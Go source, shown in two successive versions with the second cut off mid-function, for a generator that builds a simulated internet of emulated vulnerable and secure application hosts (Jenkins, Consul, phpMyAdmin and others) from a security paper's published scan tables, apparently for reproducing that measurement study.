// vulnerable population at 1/VulnScale (default 1, i.e. fully
// materialized). Benches multiply measured counts back by the strata scales
// when comparing against the paper.
package population

import (
	"crypto/tls"
	"fmt"
	"math/rand"
	"net"
	"net/netip"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/geo"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
)

// ScanDate is the paper's Internet-wide scan date (June 03, 2021); version
// recency is sampled relative to it.
var ScanDate = time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)

// appTargets holds the paper's Table 3 numbers.
type appTargets struct {
	Hosts int // "# Hosts" column
	MAVs  int // "# MAVs" column
}

// table3 reproduces Table 3 verbatim.
var table3 = map[mav.App]appTargets{
	mav.Jenkins:         {2440, 80},
	mav.GoCD:            {587, 36},
	mav.WordPress:       {1462625, 345},
	mav.Grav:            {2617, 4},
	mav.Joomla:          {50274, 16},
	mav.Drupal:          {65414, 258},
	mav.Kubernetes:      {706235, 495},
	mav.Docker:          {893, 657},
	mav.Consul:          {9447, 190},
	mav.Hadoop:          {923, 556},
	mav.Nomad:           {1231, 729},
	mav.JupyterLab:      {1369, 53},
	mav.JupyterNotebook: {9549, 313},
	mav.Zeppelin:        {1033, 82},
	mav.Polynote:        {8, 8},
	mav.Ajenti:          {1292, 0},
	mav.PhpMyAdmin:      {184968, 396},
	mav.Adminer:         {6621, 3},
}

// Table3Targets returns the paper's Table 3 row for app.
func Table3Targets(app mav.App) (hosts, mavs int) {
	t := table3[app]
	return t.Hosts, t.MAVs
}

// backgroundPorts holds Table 2's open-port counts for noise generation:
// open ports, of which HTTP responders and HTTPS responders.
var backgroundPorts = []struct {
	Port              int
	Open, HTTP, HTTPS int
}{
	{80, 56_800_000, 51_300_000, 0},
	{443, 50_100_000, 0, 35_900_000},
	{2375, 120_000, 11_000, 2_000},
	{4646, 180_000, 24_000, 4_000},
	{6443, 553_000, 304_000, 322_000},
	{8000, 5_500_000, 1_600_000, 293_000},
	{8080, 9_000_000, 7_600_000, 667_000},
	{8088, 2_600_000, 857_000, 943_000},
	{8153, 291_000, 171_000, 3_000},
	{8192, 331_000, 175_000, 7_000},
	{8500, 384_000, 62_000, 107_000},
	{8888, 2_400_000, 1_800_000, 192_000},
}

// Config tunes the generator.
type Config struct {
	// Seed makes the world reproducible.
	Seed int64
	// HostScale divides the secure host counts of Table 3 (default 400).
	HostScale int
	// VulnScale divides the MAV counts of Table 3 (default 1: the full
	// vulnerable population is materialized).
	VulnScale int
	// BackgroundScale divides Table 2's open-port counts for noise hosts
	// (default 20000). Zero uses the default; negative disables noise.
	BackgroundScale int
	// WildcardScale divides the paper's 3.0M all-ports-open artifact hosts
	// (default 20000). Negative disables them.
	WildcardScale int
	// Clock stamps command executions on the emulated instances.
	Clock apps.Clock
	// Exec receives executed commands (used when honeypots reuse the
	// generator); may be nil.
	Exec apps.ExecSink
}

func (c *Config) fill() {
	if c.HostScale <= 0 {
		c.HostScale = 400
	}
	if c.VulnScale <= 0 {
		c.VulnScale = 1
	}
	if c.BackgroundScale == 0 {
		c.BackgroundScale = 20000
	}
	if c.WildcardScale == 0 {
		c.WildcardScale = 20000
	}
}

// HostSpec is the ground truth for one generated host.
type HostSpec struct {
	IP       netip.Addr
	App      mav.App // empty for background hosts
	Port     int
	TLS      bool
	Domain   string // certificate subject for TLS hosts
	Version  string
	Instance *apps.Instance
	// Vulnerable is the generated ground truth.
	Vulnerable bool
	// ByDefault is true when the vulnerability comes from shipping
	// defaults, false when the owner explicitly misconfigured it.
	ByDefault bool
}

// World is a generated simulated internet plus its ground truth.
type World struct {
	Net   *simnet.Network
	Geo   *geo.DB
	CA    *httpsim.CA
	Specs []HostSpec
	// Background counts generated noise hosts; Wildcard the artifact hosts.
	Background int
	Wildcard   int

	cfg  Config
	byIP map[netip.Addr]*HostSpec
	// weights holds the per-app inverse sampling fractions of the two
	// strata (Horvitz-Thompson design weights): how many real-population
	// hosts each generated host represents.
	weights map[mav.App]strataWeights
}

type strataWeights struct {
	secure float64
	vuln   float64
}

// Weights returns the design weights for app: how many full-population
// hosts one generated secure (respectively vulnerable) host stands for.
// Benches use them to undo the stratified sampling when comparing against
// the paper's absolute numbers.
func (w *World) Weights(app mav.App) (secure, vuln float64) {
	sw := w.weights[app]
	return sw.secure, sw.vuln
}

// HostScale returns the secure-population sampling divisor.
func (w *World) HostScale() int { return w.cfg.HostScale }

// VulnScale returns the vulnerable-population sampling divisor.
func (w *World) VulnScale() int { return w.cfg.VulnScale }

// SpecFor returns the ground truth for ip.
func (w *World) SpecFor(ip netip.Addr) (*HostSpec, bool) {
	s, ok := w.byIP[ip]
	return s, ok
}

// VulnerableSpecs returns the specs generated vulnerable, in generation
// order.
func (w *World) VulnerableSpecs() []*HostSpec {
	var out []*HostSpec
	for i := range w.Specs {
		if w.Specs[i].Vulnerable {
			out = append(out, &w.Specs[i])
		}
	}
	return out
}

// ipAllocator hands out unique addresses inside geo allocations.
type ipAllocator struct {
	rng  *rand.Rand
	used map[netip.Addr]bool
}

func (a *ipAllocator) inPrefix(p netip.Prefix) netip.Addr {
	size := uint32(1) << (32 - p.Bits())
	base := p.Addr().As4()
	baseV := uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3])
	for {
		off := uint32(a.rng.Intn(int(size)))
		v := baseV + off
		ip := netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
		if !a.used[ip] {
			a.used[ip] = true
			return ip
		}
	}
}

// placement weights for vulnerable hosts, shaped after Table 4: the listed
// providers carry the published counts; the remainder spreads across
// residential and smaller networks (~36% non-hosting overall).
type placeWeight struct {
	asn     string
	country string
	weight  int
}

var vulnPlacement = []placeWeight{
	{"AS16509", "United States", 913},
	{"AS37963", "China", 542},
	{"AS14618", "United States", 329},
	{"AS14061", "United States", 150},
	{"AS14061", "Singapore", 94},
	{"AS396982", "United States", 221},
	{"AS24940", "Germany", 172},
	{"AS16276", "France", 96},
	{"AS4134", "China", 458},
	{"AS7922", "United States", 300},
	{"AS7018", "United States", 191},
	{"AS49505", "Russia", 180},
	{"AS211252", "Netherlands", 120},
	{"AS268624", "Brazil", 110},
	{"AS20473", "United Kingdom", 90},
	{"AS12824", "Poland", 80},
	{"AS9829", "India", 75},
	{"AS51395", "Switzerland", 60},
	{"AS200019", "Moldova", 40},
}

func pickPlacement(rng *rand.Rand, db *geo.DB, weights []placeWeight) netip.Prefix {
	total := 0
	for _, w := range weights {
		total += w.weight
	}
	n := rng.Intn(total)
	for _, w := range weights {
		n -= w.weight
		if n < 0 {
			p, err := db.PrefixFor(func(r geo.Record) bool {
				return r.ASN == w.asn && r.Country == w.country
			})
			if err == nil {
				return p
			}
		}
	}
	return db.Prefixes()[0]
}

// sampleVersion draws a release for a host following the paper's RQ2
// age structure: ~65% of deployments within six months of the scan, ~25%
// from the previous year, ~10% older. For vulnerable hosts of products
// whose defaults changed over time, 80% run pre-cutover (insecure-default)
// releases and 20% are explicitly misconfigured recent ones — Figure 1's
// Jupyter Notebook pattern. Products that never changed their insecure
// defaults keep the plain recency distribution, reproducing Hadoop's
// evenly-spread vulnerable versions.
func sampleVersion(rng *rand.Rand, app mav.App, vulnerable bool) string {
	tl := apps.Timeline(app)
	info := mav.MustLookup(app)
	if vulnerable && info.Default == mav.ChangedOverTime && rng.Float64() < 0.8 {
		// Pre-cutover releases only.
		var old []apps.Release
		for _, rel := range tl {
			if apps.InsecureDefault(app, rel.Version) {
				old = append(old, rel)
			}
		}
		if len(old) > 0 {
			return old[rng.Intn(len(old))].Version
		}
	}
	// Per-category recency mix (RQ2): CMSes are the freshest (WordPress
	// auto-updates; median May 2021), CI and CM follow (median January
	// 2021), notebooks run much older code (median January 2020) and
	// control panels are the most outdated (median September 2019).
	recent, mid := 0.65, 0.25
	switch info.Category {
	case mav.CMS:
		recent, mid = 0.80, 0.15
	case mav.CI, mav.CM:
		recent, mid = 0.70, 0.22
	case mav.NB:
		recent, mid = 0.40, 0.35
	case mav.CP:
		recent, mid = 0.25, 0.35
	}
	r := rng.Float64()
	var pool []apps.Release
	switch {
	case r < recent:
		pool = releasesBetween(tl, ScanDate.AddDate(0, -6, 0), ScanDate)
	case r < recent+mid:
		pool = releasesBetween(tl, ScanDate.AddDate(0, -18, 0), ScanDate.AddDate(0, -6, 0))
	default:
		pool = releasesBetween(tl, time.Time{}, ScanDate.AddDate(0, -18, 0))
	}
	if len(pool) == 0 {
		pool = tl
	}
	return pool[rng.Intn(len(pool))].Version
}

func releasesBetween(tl []apps.Release, from, to time.Time) []apps.Release {
	var out []apps.Release
	for _, rel := range tl {
		if (from.IsZero() || !rel.Date.Before(from)) && rel.Date.Before(to) {
			out = append(out, rel)
		}
	}
	return out
}

// instanceConfig derives the emulator configuration realizing the chosen
// ground truth (vulnerable or secure) for an application at a version.
func instanceConfig(rng *rand.Rand, app mav.App, version string, vulnerable bool, cfg Config) (apps.Config, bool) {
	c := apps.Config{App: app, Version: version, Clock: cfg.Clock, Exec: cfg.Exec, Options: map[string]bool{}}
	byDefault := apps.InsecureDefault(app, version)
	switch app {
	case mav.WordPress, mav.Grav, mav.Joomla, mav.Drupal:
		c.Installed = !vulnerable
		c.AuthRequired = true
	case mav.Consul:
		if vulnerable {
			// Script checks are never on by default.
			if rng.Intn(2) == 0 {
				c.Options["enableScriptChecks"] = true
			} else {
				c.Options["enableRemoteScriptChecks"] = true
			}
		}
		byDefault = false
	case mav.Ajenti:
		c.Options["autologin"] = vulnerable
		byDefault = false
	case mav.PhpMyAdmin:
		c.Options["allowNoPassword"] = vulnerable
		byDefault = false
	case mav.Adminer:
		c.Options["emptyDBPassword"] = vulnerable
		byDefault = byDefault && vulnerable
	default:
		c.AuthRequired = !vulnerable
		byDefault = byDefault && vulnerable
	}
	return c, byDefault
}

// tlsLikelihood returns the probability that a deployment of app serves
// TLS on its admin port, loosely shaped after Table 2's per-port protocol
// ratios.
func tlsLikelihood(app mav.App, port int) float64 {
	switch {
	case app == mav.Kubernetes:
		return 1.0 // kube-apiserver is always TLS
	case port == 443:
		return 1.0
	case port == 80:
		return 0.0
	case app == mav.Consul:
		return 0.5
	default:
		return 0.1
	}
}

// Generate builds the world.
func Generate(cfg Config) (*World, error) {
	cfg.fill()
	rng := rand.New(rand.NewSource(cfg.Seed))
	db := geo.Default()
	ca, err := httpsim.NewCA()
	if err != nil {
		return nil, err
	}
	w := &World{
		Net:     simnet.New(),
		Geo:     db,
		CA:      ca,
		cfg:     cfg,
		byIP:    make(map[netip.Addr]*HostSpec),
		weights: make(map[mav.App]strataWeights),
	}
	alloc := &ipAllocator{rng: rng, used: make(map[netip.Addr]bool)}

	for _, info := range mav.InScopeApps() {
		targets := table3[info.App]
		nVuln := targets.MAVs / cfg.VulnScale
		if targets.MAVs > 0 && nVuln == 0 {
			nVuln = 1 // keep rare strata (Polynote, Adminer) represented
		}
		nSecure := (targets.Hosts - targets.MAVs) / cfg.HostScale
		if nSecure == 0 && targets.Hosts > targets.MAVs {
			nSecure = 1
		}
		sw := strataWeights{}
		if nSecure > 0 {
			sw.secure = float64(targets.Hosts-targets.MAVs) / float64(nSecure)
		}
		if nVuln > 0 {
			sw.vuln = float64(targets.MAVs) / float64(nVuln)
		}
		w.weights[info.App] = sw
		for i := 0; i < nVuln+nSecure; i++ {
			vulnerable := i < nVuln
			if err := w.addAppHost(rng, alloc, info, vulnerable); err != nil {
				return nil, err
			}
		}
	}
	if cfg.BackgroundScale > 0 {
		w.addBackground(rng, alloc)
	}
	if cfg.WildcardScale > 0 {
		n := 3_000_000 / cfg.WildcardScale
		for i := 0; i < n; i++ {
			ip := alloc.inPrefix(db.Prefixes()[rng.Intn(len(db.Prefixes()))])
			h := simnet.NewHost(ip)
			h.SetWildcardOpen(true)
			if err := w.Net.AddHost(h); err != nil {
				return nil, err
			}
			w.Wildcard++
		}
	}
	return w, nil
}

// addAppHost generates, binds and records one application host.
func (w *World) addAppHost(rng *rand.Rand, alloc *ipAllocator, info mav.Info, vulnerable bool) error {
	version := sampleVersion(rng, info.App, vulnerable)
	// Adminer's MAV needs a pre-4.6.3 release (empty passwords are refused
	// outright after that), and Joomla's install hijack is defeated by the
	// 3.7.4 ownership check — vulnerable hosts must run older releases.
	if vulnerable && (info.App == mav.Adminer || info.App == mav.Joomla) && !apps.InsecureDefault(info.App, version) {
		tl := apps.Timeline(info.App)
		for i := len(tl) - 1; i >= 0; i-- {
			if apps.InsecureDefault(info.App, tl[i].Version) {
				version = tl[i].Version
				break
			}
		}
	}
	instCfg, byDefault := instanceConfig(rng, info.App, version, vulnerable, w.cfg)
	inst, err := apps.New(instCfg)
	if err != nil {
		return err
	}
	if inst.Vulnerable() != vulnerable {
		return fmt.Errorf("population: %s@%s generated state mismatch (want vulnerable=%v)", info.App, version, vulnerable)
	}
	var prefix netip.Prefix
	if vulnerable {
		prefix = pickPlacement(rng, w.Geo, vulnPlacement)
	} else {
		prefix = w.Geo.Prefixes()[rng.Intn(len(w.Geo.Prefixes()))]
	}
	ip := alloc.inPrefix(prefix)
	port := info.Ports[rng.Intn(len(info.Ports))]
	useTLS := rng.Float64() < tlsLikelihood(info.App, port)
	if port == 443 {
		useTLS = true
	}
	spec := HostSpec{
		IP: ip, App: info.App, Port: port, TLS: useTLS,
		Version: version, Instance: inst,
		Vulnerable: vulnerable, ByDefault: byDefault,
	}
	host := simnet.NewHost(ip)
	if useTLS {
		// Each deployment owns its own registrable domain so the
		// disclosure workflow derives distinct security@ contacts.
		spec.Domain = fmt.Sprintf("www.host-%04d.org", len(w.Specs))
		cert, err := w.CA.CertFor(spec.Domain, ip.String())
		if err != nil {
			return err
		}
		host.Bind(port, httpsim.TLSConnHandler(inst.Handler(), cert))
	} else {
		host.Bind(port, httpsim.ConnHandler(inst.Handler()))
	}
	if err := w.Net.AddHost(host); err != nil {
		return err
	}
	w.Specs = append(w.Specs, spec)
	w.byIP[ip] = &w.Specs[len(w.Specs)-1]
	return nil
}

// addBackground seeds non-AWE noise hosts following Table 2's port mix.
func (w *World) addBackground(rng *rand.Rand, alloc *ipAllocator) {
	kinds := apps.BackgroundKinds()
	for _, bp := range backgroundPorts {
		n := bp.Open / w.cfg.BackgroundScale
		for i := 0; i < n; i++ {
			ip := alloc.inPrefix(w.Geo.Prefixes()[rng.Intn(len(w.Geo.Prefixes()))])
			h := simnet.NewHost(ip)
			// Decide protocol per Table 2's response ratios; the rest of
			// the open ports speak no HTTP at all (e.g. SSH banners).
			r := rng.Intn(bp.Open / w.cfg.BackgroundScale)
			httpN := bp.HTTP / w.cfg.BackgroundScale
			httpsN := bp.HTTPS / w.cfg.BackgroundScale
			handler := apps.Background(kinds[rng.Intn(len(kinds))])
			switch {
			case r < httpN:
				h.Bind(bp.Port, httpsim.ConnHandler(handler))
			case r < httpN+httpsN:
				cert, err := w.CA.CertFor(ip.String())
				if err == nil {
					h.Bind(bp.Port, httpsim.TLSConnHandler(handler, cert))
				}
			default:
				// A TCP service that is not HTTP: accept and close.
				h.Bind(bp.Port, func(c net.Conn) { c.Close() })
			}
			if err := w.Net.AddHost(h); err == nil {
				w.Background++
			}
		}
	}
}

// httpsimPlain and httpsimTLS are small indirection helpers so churn can
// rebind upgraded instances.
func httpsimPlain(inst *apps.Instance) simnet.ConnHandler {
	return httpsim.ConnHandler(inst.Handler())
}

func httpsimTLS(inst *apps.Instance, cert tls.Certificate) simnet.ConnHandler {
	return httpsim.TLSConnHandler(inst.Handler(), cert)
}
