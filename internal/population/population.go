// Package population generates the simulated internet the pipeline scans.
//
// The generator encodes the published marginals of the paper's measurement
// (Table 3 per-application host and MAV counts, Table 4 geography, Figure 1
// version-age structure, Table 2 background-port noise) as a *stratified
// sample*: the large secure population is sampled at 1/HostScale, the small
// vulnerable population at 1/VulnScale (default 1, i.e. fully
// materialized). Benches multiply measured counts back by the strata scales
// when comparing against the paper.
package population

import (
	"crypto/tls"
	"fmt"
	"math/rand"
	"net/netip"
	"sync"
	"time"

	"mavscan/internal/adversary"
	"mavscan/internal/apps"
	"mavscan/internal/geo"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
	"mavscan/internal/telemetry"
)

// ScanDate is the paper's Internet-wide scan date (June 03, 2021); version
// recency is sampled relative to it.
var ScanDate = time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)

// appTargets holds the paper's Table 3 numbers.
type appTargets struct {
	Hosts int // "# Hosts" column
	MAVs  int // "# MAVs" column
}

// table3 reproduces Table 3 verbatim.
var table3 = map[mav.App]appTargets{
	mav.Jenkins:         {2440, 80},
	mav.GoCD:            {587, 36},
	mav.WordPress:       {1462625, 345},
	mav.Grav:            {2617, 4},
	mav.Joomla:          {50274, 16},
	mav.Drupal:          {65414, 258},
	mav.Kubernetes:      {706235, 495},
	mav.Docker:          {893, 657},
	mav.Consul:          {9447, 190},
	mav.Hadoop:          {923, 556},
	mav.Nomad:           {1231, 729},
	mav.JupyterLab:      {1369, 53},
	mav.JupyterNotebook: {9549, 313},
	mav.Zeppelin:        {1033, 82},
	mav.Polynote:        {8, 8},
	mav.Ajenti:          {1292, 0},
	mav.PhpMyAdmin:      {184968, 396},
	mav.Adminer:         {6621, 3},
}

// Table3Targets returns the paper's Table 3 row for app.
func Table3Targets(app mav.App) (hosts, mavs int) {
	t := table3[app]
	return t.Hosts, t.MAVs
}

// backgroundPorts holds Table 2's open-port counts for noise generation:
// open ports, of which HTTP responders and HTTPS responders.
var backgroundPorts = []struct {
	Port              int
	Open, HTTP, HTTPS int
}{
	{80, 56_800_000, 51_300_000, 0},
	{443, 50_100_000, 0, 35_900_000},
	{2375, 120_000, 11_000, 2_000},
	{4646, 180_000, 24_000, 4_000},
	{6443, 553_000, 304_000, 322_000},
	{8000, 5_500_000, 1_600_000, 293_000},
	{8080, 9_000_000, 7_600_000, 667_000},
	{8088, 2_600_000, 857_000, 943_000},
	{8153, 291_000, 171_000, 3_000},
	{8192, 331_000, 175_000, 7_000},
	{8500, 384_000, 62_000, 107_000},
	{8888, 2_400_000, 1_800_000, 192_000},
}

// Config tunes the generator.
type Config struct {
	// Seed makes the world reproducible.
	Seed int64
	// HostScale divides the secure host counts of Table 3 (default 400).
	HostScale int
	// VulnScale divides the MAV counts of Table 3 (default 1: the full
	// vulnerable population is materialized).
	VulnScale int
	// BackgroundScale divides Table 2's open-port counts for noise hosts
	// (default 20000). Zero uses the default; negative disables noise.
	BackgroundScale int
	// WildcardScale divides the paper's 3.0M all-ports-open artifact hosts
	// (default 20000). Negative disables them.
	WildcardScale int
	// PopScale multiplies every population target (default 1): the Table-3,
	// Table-2 and wildcard numerators all grow PopScale-fold and the
	// address plan widens to match (geo.Scaled), so PopScale 1000 simulates
	// an internet three orders of magnitude beyond the paper's. Values
	// above 2^geo.MaxScaleBits exceed the address plan and fail Generate.
	PopScale int
	// Lazy derives hosts on first probe instead of materializing the world
	// up front: world setup is O(strata) and memory is bounded by
	// CacheHosts, which is what makes PopScale ≫ 1 feasible. Same seed,
	// same hosts — the lazy and eager worlds are the same pure function of
	// (Seed, address).
	Lazy bool
	// CacheHosts bounds the lazy world's resident host count (default
	// 131072). Ignored when Lazy is false.
	CacheHosts int
	// HostileRate is the fraction of the total population made of
	// weaponized responders (internal/adversary archetypes): 0 disables
	// them (the default — and the benign strata are then byte-identical to
	// a hostile-seeded world at the same seed, because the hostile stratum
	// is appended after every benign one). Must be in [0, 1).
	HostileRate float64
	// Clock stamps command executions on the emulated instances.
	Clock apps.Clock
	// Exec receives executed commands (used when honeypots reuse the
	// generator); may be nil.
	Exec apps.ExecSink
}

func (c *Config) fill() {
	if c.HostScale <= 0 {
		c.HostScale = 400
	}
	if c.VulnScale <= 0 {
		c.VulnScale = 1
	}
	if c.BackgroundScale == 0 {
		c.BackgroundScale = 20000
	}
	if c.WildcardScale == 0 {
		c.WildcardScale = 20000
	}
	if c.PopScale <= 0 {
		c.PopScale = 1
	}
	if c.CacheHosts <= 0 {
		c.CacheHosts = 131072
	}
}

// HostSpec is the ground truth for one generated host.
type HostSpec struct {
	IP       netip.Addr
	App      mav.App // empty for background hosts
	Port     int
	TLS      bool
	Domain   string // certificate subject for TLS hosts
	Version  string
	Instance *apps.Instance
	// Vulnerable is the generated ground truth.
	Vulnerable bool
	// ByDefault is true when the vulnerability comes from shipping
	// defaults, false when the owner explicitly misconfigured it.
	ByDefault bool
}

// World is a generated simulated internet plus its ground truth.
//
// In eager mode (the historical behavior) every host exists up front and
// Specs holds the full app-host ground truth. In lazy mode (Config.Lazy)
// the world is the pure function layout.build of (Seed, address): hosts
// materialize on first probe into a bounded cache, Specs stays empty, and
// SpecFor/VulnerableSpecs derive ground truth on demand — identically to
// what the eager walk would have produced, because both modes call the
// same derivation with the same per-address RNG seed.
type World struct {
	Net *simnet.Network
	Geo *geo.DB
	CA  *httpsim.CA
	// Specs is the eager app-host ground truth, in generation order. Empty
	// in lazy mode — use SpecFor and VulnerableSpecs, which work in both.
	Specs []HostSpec
	// Background counts generated noise hosts; Wildcard the artifact
	// hosts; Hostile the weaponized responders.
	Background int
	Wildcard   int
	Hostile    int

	cfg    Config
	layout *layout
	byIP   map[netip.Addr]*HostSpec
	// weights holds the per-app inverse sampling fractions of the two
	// strata (Horvitz-Thompson design weights): how many real-population
	// hosts each generated host represents.
	weights map[mav.App]strataWeights

	// Lazy-mode state: the bounded materialization cache and the memoized
	// pinned vulnerable set.
	cache     *hostCache
	vulnOnce  sync.Once
	vulnSpecs []*HostSpec
	vulnErr   error
}

type strataWeights struct {
	secure float64
	vuln   float64
}

// Weights returns the design weights for app: how many full-population
// hosts one generated secure (respectively vulnerable) host stands for.
// Benches use them to undo the stratified sampling when comparing against
// the paper's absolute numbers.
func (w *World) Weights(app mav.App) (secure, vuln float64) {
	sw := w.weights[app]
	return sw.secure, sw.vuln
}

// HostScale returns the secure-population sampling divisor.
func (w *World) HostScale() int { return w.cfg.HostScale }

// VulnScale returns the vulnerable-population sampling divisor.
func (w *World) VulnScale() int { return w.cfg.VulnScale }

// SpecFor returns the ground truth for ip. In lazy mode it materializes
// the host on demand (and caches it), so callers can ask about any address
// without a prior probe.
func (w *World) SpecFor(ip netip.Addr) (*HostSpec, bool) {
	if w.cfg.Lazy {
		e := w.materialize(ip, false)
		if e == nil || e.spec == nil {
			return nil, false
		}
		return e.spec, true
	}
	s, ok := w.byIP[ip]
	return s, ok
}

// VulnerableSpecs returns the specs generated vulnerable, in generation
// order. In lazy mode the vulnerable strata are materialized (once) and
// pinned in the cache: churn mutates these hosts in place, so they must
// survive eviction. The vulnerable population is tiny relative to the
// world — it is the part the paper's follow-up experiments track
// individually — so pinning it does not breach the memory budget in any
// interesting way.
func (w *World) VulnerableSpecs() []*HostSpec {
	if !w.cfg.Lazy {
		var out []*HostSpec
		for i := range w.Specs {
			if w.Specs[i].Vulnerable {
				out = append(out, &w.Specs[i])
			}
		}
		return out
	}
	w.vulnOnce.Do(func() {
		l := w.layout
		for s := range l.strata {
			st := &l.strata[s]
			if st.kind != kindApp || !st.vulnerable {
				continue
			}
			for idx := uint64(0); idx < st.count; idx++ {
				e := w.materialize(l.addrOf(s, idx), true)
				if e == nil {
					continue
				}
				w.vulnSpecs = append(w.vulnSpecs, e.spec)
			}
		}
	})
	return w.vulnSpecs
}

// TotalHosts returns the number of live addresses in the world, whether or
// not they are materialized: app hosts + background noise + wildcard
// artifacts.
func (w *World) TotalHosts() uint64 {
	if w.layout != nil {
		return w.layout.appHosts + w.layout.background + w.layout.wildcard + w.layout.hostile
	}
	return uint64(w.Net.NumHosts())
}

// HostileHost is the ground truth for one weaponized responder.
type HostileHost struct {
	IP        netip.Addr
	Port      int
	Archetype adversary.Archetype
}

// HostileHosts derives the ground truth of every hostile host without
// materializing any of them: each entry replays the same per-host RNG draw
// build performs, so it matches what a probe of that address meets. The
// slice is in stratum order; empty when HostileRate is 0.
func (w *World) HostileHosts() []HostileHost {
	l := w.layout
	if l == nil || l.hostile == 0 {
		return nil
	}
	out := make([]HostileHost, 0, l.hostile)
	for s := range l.strata {
		st := &l.strata[s]
		if st.kind != kindHostile {
			continue
		}
		for idx := uint64(0); idx < st.count; idx++ {
			ip := l.addrOf(s, idx)
			rng := rand.New(rand.NewSource(hostSeed(w.cfg.Seed, ipKey(ip))))
			arch, port := l.hostileDraw(rng)
			out = append(out, HostileHost{IP: ip, Port: port, Archetype: arch})
		}
	}
	return out
}

// MaterializedHosts returns how many hosts currently exist in memory: the
// cache population in lazy mode, the full network otherwise.
func (w *World) MaterializedHosts() int {
	if w.cfg.Lazy {
		return w.cache.len()
	}
	return w.Net.NumHosts()
}

// Instrument registers the world's occupancy gauge
// (mavscan_population_resident_hosts) on reg. In lazy mode the gauge
// tracks the materialization cache live — every insert, eviction and drop
// moves it — which is what makes memory pressure visible on the
// operations plane during a lazy scan; in eager mode it is set once to
// the (static) full host count. A nil registry no-ops.
func (w *World) Instrument(reg *telemetry.Registry) {
	if !reg.Enabled() {
		return
	}
	g := reg.Gauge("mavscan_population_resident_hosts")
	g.Set(int64(w.MaterializedHosts()))
	if w.cfg.Lazy {
		w.cache.gauge = g
	}
}

// materialize derives the host at ip if the layout places one there,
// returning the cached entry (nil for empty addresses).
func (w *World) materialize(ip netip.Addr, pin bool) *cacheEntry {
	s, idx, ok := w.layout.locate(ip)
	if !ok {
		return nil
	}
	e, err := w.cache.getOrCreate(ipKey(ip), func() (*simnet.Host, *HostSpec, error) {
		return w.layout.build(s, idx, ip)
	}, pin)
	if err != nil {
		// build can only fail on an internally inconsistent app catalog
		// (a version the emulator cannot realize in the requested state).
		// The eager generator surfaces the same error from Generate; the
		// lazy world has no error channel on the probe path, and silently
		// dropping the host would make lazy and eager worlds diverge — so
		// this is a programming error worth stopping for.
		panic(fmt.Sprintf("population: lazy materialization of %s failed: %v", ip, err))
	}
	return e
}

// lazyResolver adapts the world's materialization to simnet's page-table
// miss path.
type lazyResolver struct{ w *World }

func (r *lazyResolver) Resolve(ip netip.Addr) *simnet.Host {
	e := r.w.materialize(ip, false)
	if e == nil {
		return nil
	}
	return e.host
}

// placement weights for vulnerable hosts, shaped after Table 4: the listed
// providers carry the published counts; the remainder spreads across
// residential and smaller networks (~36% non-hosting overall).
type placeWeight struct {
	asn     string
	country string
	weight  int
}

var vulnPlacement = []placeWeight{
	{"AS16509", "United States", 913},
	{"AS37963", "China", 542},
	{"AS14618", "United States", 329},
	{"AS14061", "United States", 150},
	{"AS14061", "Singapore", 94},
	{"AS396982", "United States", 221},
	{"AS24940", "Germany", 172},
	{"AS16276", "France", 96},
	{"AS4134", "China", 458},
	{"AS7922", "United States", 300},
	{"AS7018", "United States", 191},
	{"AS49505", "Russia", 180},
	{"AS211252", "Netherlands", 120},
	{"AS268624", "Brazil", 110},
	{"AS20473", "United Kingdom", 90},
	{"AS12824", "Poland", 80},
	{"AS9829", "India", 75},
	{"AS51395", "Switzerland", 60},
	{"AS200019", "Moldova", 40},
}

// sampleVersion draws a release for a host following the paper's RQ2
// age structure: ~65% of deployments within six months of the scan, ~25%
// from the previous year, ~10% older. For vulnerable hosts of products
// whose defaults changed over time, 80% run pre-cutover (insecure-default)
// releases and 20% are explicitly misconfigured recent ones — Figure 1's
// Jupyter Notebook pattern. Products that never changed their insecure
// defaults keep the plain recency distribution, reproducing Hadoop's
// evenly-spread vulnerable versions.
func sampleVersion(rng *rand.Rand, app mav.App, vulnerable bool) string {
	tl := apps.Timeline(app)
	info := mav.MustLookup(app)
	if vulnerable && info.Default == mav.ChangedOverTime && rng.Float64() < 0.8 {
		// Pre-cutover releases only.
		var old []apps.Release
		for _, rel := range tl {
			if apps.InsecureDefault(app, rel.Version) {
				old = append(old, rel)
			}
		}
		if len(old) > 0 {
			return old[rng.Intn(len(old))].Version
		}
	}
	// Per-category recency mix (RQ2): CMSes are the freshest (WordPress
	// auto-updates; median May 2021), CI and CM follow (median January
	// 2021), notebooks run much older code (median January 2020) and
	// control panels are the most outdated (median September 2019).
	recent, mid := 0.65, 0.25
	switch info.Category {
	case mav.CMS:
		recent, mid = 0.80, 0.15
	case mav.CI, mav.CM:
		recent, mid = 0.70, 0.22
	case mav.NB:
		recent, mid = 0.40, 0.35
	case mav.CP:
		recent, mid = 0.25, 0.35
	}
	r := rng.Float64()
	var pool []apps.Release
	switch {
	case r < recent:
		pool = releasesBetween(tl, ScanDate.AddDate(0, -6, 0), ScanDate)
	case r < recent+mid:
		pool = releasesBetween(tl, ScanDate.AddDate(0, -18, 0), ScanDate.AddDate(0, -6, 0))
	default:
		pool = releasesBetween(tl, time.Time{}, ScanDate.AddDate(0, -18, 0))
	}
	if len(pool) == 0 {
		pool = tl
	}
	return pool[rng.Intn(len(pool))].Version
}

func releasesBetween(tl []apps.Release, from, to time.Time) []apps.Release {
	var out []apps.Release
	for _, rel := range tl {
		if (from.IsZero() || !rel.Date.Before(from)) && rel.Date.Before(to) {
			out = append(out, rel)
		}
	}
	return out
}

// instanceConfig derives the emulator configuration realizing the chosen
// ground truth (vulnerable or secure) for an application at a version.
func instanceConfig(rng *rand.Rand, app mav.App, version string, vulnerable bool, cfg Config) (apps.Config, bool) {
	c := apps.Config{App: app, Version: version, Clock: cfg.Clock, Exec: cfg.Exec, Options: map[string]bool{}}
	byDefault := apps.InsecureDefault(app, version)
	switch app {
	case mav.WordPress, mav.Grav, mav.Joomla, mav.Drupal:
		c.Installed = !vulnerable
		c.AuthRequired = true
	case mav.Consul:
		if vulnerable {
			// Script checks are never on by default.
			if rng.Intn(2) == 0 {
				c.Options["enableScriptChecks"] = true
			} else {
				c.Options["enableRemoteScriptChecks"] = true
			}
		}
